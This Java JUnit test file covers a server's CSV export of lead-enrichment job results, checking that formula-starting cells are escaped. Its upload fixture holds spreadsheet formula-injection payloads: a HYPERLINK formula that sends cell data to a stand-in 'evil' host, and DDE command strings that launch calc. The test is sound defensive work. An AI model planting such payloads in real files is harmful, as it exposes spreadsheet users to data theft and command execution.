package io.leadjobs.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.StringReader;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The CSV download of a job's results, from the server with its shipped H2 store. */
class CsvExportTest {

    @TempDir
    static Path data;

    private static RunningServer server;
    private static String token;
    private static String jobId;

    /** Cells that a spreadsheet would run as formulas, a name with an umlaut, and two rows that get rejected. */
    private static final String UPLOAD = "email,first_name,last_name,company,title,website,notes\n"
            + "ada@acme-industries.com,Ada,Müller,\"=HYPERLINK(\"\"http://evil/?\"\"&A1)\",+cmd|calc,https://acme-industries.com,@SUM(1+1)\n"
            + "grace@globex.io,-2+3,Hopper,Globex,CTO,globex.io,\"\tleading tab\"\n"
            + "bob@,Bob,Builder,=1+1,Owner,,\"=cmd|' /C calc'!A0\"\n"
            + ",Nobody,Nowhere,,VP Sales,,met at booth\n";

    @BeforeAll
    static void start() throws Exception {
        server = RunningServer.start(Map.of("LEADJOBS_DATA_DIR", data.toString()));
        token = server.token("exporter");
        jobId = server.submitCsv("exporter", UPLOAD);
        await().atMost(Duration.ofSeconds(30)).until(() -> RunningServer.json(server.get("/api/jobs/" + jobId, token))
                .get("status").asText().equals("completed"));
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    private static byte[] download(String query) throws Exception {
        HttpResponse<byte[]> r = server.http.send(HttpRequest.newBuilder(server.uri("/api/jobs/" + jobId + "/results" + query))
                .header("Authorization", "Bearer " + token).build(), HttpResponse.BodyHandlers.ofByteArray());
        assertThat(r.statusCode()).isEqualTo(200);
        return r.body();
    }

    private static List<CSVRecord> records(String text) throws Exception {
        return CSVParser.parse(new StringReader(text),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()).getRecords();
    }

    private static String withoutBom(byte[] body) {
        assertThat(body).startsWith(0xEF, 0xBB, 0xBF);
        return new String(body, 3, body.length - 3, StandardCharsets.UTF_8);
    }

    @Test
    void startsWithAUtf8ByteOrderMarkUnlessAskedNotTo() throws Exception {
        byte[] withBom = download("?format=csv");
        byte[] without = download("?format=csv&bom=false");

        assertThat(withoutBom(withBom)).isEqualTo(new String(without, StandardCharsets.UTF_8));
        assertThat(without[0]).isEqualTo((byte) 'i');
        assertThat(new String(without, StandardCharsets.UTF_8)).contains("Müller");
    }

    @Test
    void refusesAnUnknownBomValueWithASentence() throws Exception {
        HttpResponse<String> r = server.get("/api/jobs/" + jobId + "/results?format=csv&bom=maybe", token);

        assertThat(r.statusCode()).isEqualTo(400);
        assertThat(RunningServer.json(r).get("error").asText()).startsWith("Unknown bom value 'maybe'; use true");
    }

    @Test
    void noExportedCellStartsWithAFormulaCharacter() throws Exception {
        List<CSVRecord> lines = records(withoutBom(download("?format=csv")));

        assertThat(lines).hasSize(4);
        for (CSVRecord line : lines) {
            for (String cell : line) {
                assertThat(cell).as("row %s", line.get("row")).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
        CSVRecord ada = lines.get(0);
        assertThat(ada.get("company")).isEqualTo("'=HYPERLINK(\"http://evil/?\"&A1)");
        assertThat(ada.get("title")).isEqualTo("'+cmd|calc");
        assertThat(ada.get("notes")).isEqualTo("'@SUM(1+1)");
        assertThat(lines.get(1).get("first_name")).isEqualTo("'-2+3");
        CSVRecord bob = lines.get(2);
        assertThat(bob.get("company")).isEqualTo("'=1+1");
        assertThat(bob.get("notes")).isEqualTo("'=cmd|' /C calc'!A0");
    }

    @Test
    void hasOneColumnPerSignalAndReadableReasonsInsteadOfAJsonCell() throws Exception {
        List<CSVRecord> lines = records(withoutBom(download("?format=csv")));
        JsonNode json = RunningServer.json(server.get("/api/jobs/" + jobId + "/results", token));
        JsonNode grace = json.get("leads").get(1);

        assertThat(lines.get(0).getParser().getHeaderNames()).doesNotContain("enrichment")
                .contains("email_domain", "free_email", "seniority", "company_domain", "dns_status", "has_mx",
                        "mail_provider", "has_spf", "has_dmarc", "website_reachable", "website_title");
        CSVRecord line = lines.get(1);
        assertThat(line.get("email_domain")).isEqualTo(grace.get("enrichment").get("email_domain").asText());
        assertThat(line.get("seniority")).isEqualTo(grace.get("enrichment").get("seniority").asText());
        assertThat(line.get("free_email")).isEqualTo("false");
        assertThat(line.get("score")).isEqualTo(grace.get("score").asText());
        String firstDetail = grace.get("reasons").get(0).get("detail").asText();
        assertThat(line.get("reasons")).startsWith(firstDetail + " (");
        assertThat(line.get("reasons")).doesNotContain(grace.get("reasons").get(0).get("rule").asText() + " (");
    }

    @Test
    void rejectedRowsKeepTheInputColumnsTheyHad() throws Exception {
        List<CSVRecord> lines = records(withoutBom(download("?format=csv")));

        CSVRecord bob = lines.get(2);
        assertThat(bob.get("row")).isEqualTo("3");
        assertThat(bob.get("index")).isEmpty();
        assertThat(bob.get("email")).isEqualTo("bob@");
        assertThat(bob.get("first_name")).isEqualTo("Bob");
        assertThat(bob.get("last_name")).isEqualTo("Builder");
        assertThat(bob.get("title")).isEqualTo("Owner");
        assertThat(bob.get("rejected_reason")).contains("bob@");
        assertThat(bob.get("score")).isEmpty();
        CSVRecord nobody = lines.get(3);
        assertThat(nobody.get("row")).isEqualTo("4");
        assertThat(nobody.get("first_name")).isEqualTo("Nobody");
        assertThat(nobody.get("title")).isEqualTo("VP Sales");
        assertThat(nobody.get("notes")).isEqualTo("met at booth");
        assertThat(nobody.get("rejected_reason")).isNotBlank();
    }

    @Test
    void theJsonResultsKeepTheirShape() throws Exception {
        JsonNode json = RunningServer.json(server.get("/api/jobs/" + jobId + "/results", token));

        assertThat(json.fieldNames()).toIterable().containsExactly("jobId", "leads", "rejected");
        assertThat(json.get("leads").get(0).get("enrichment").isObject()).isTrue();
        assertThat(json.get("leads").get(0).get("company").asText()).isEqualTo("=HYPERLINK(\"http://evil/?\"&A1)");
        assertThat(json.get("rejected").get(0).fieldNames()).toIterable().containsExactly("row", "reason");
    }
}
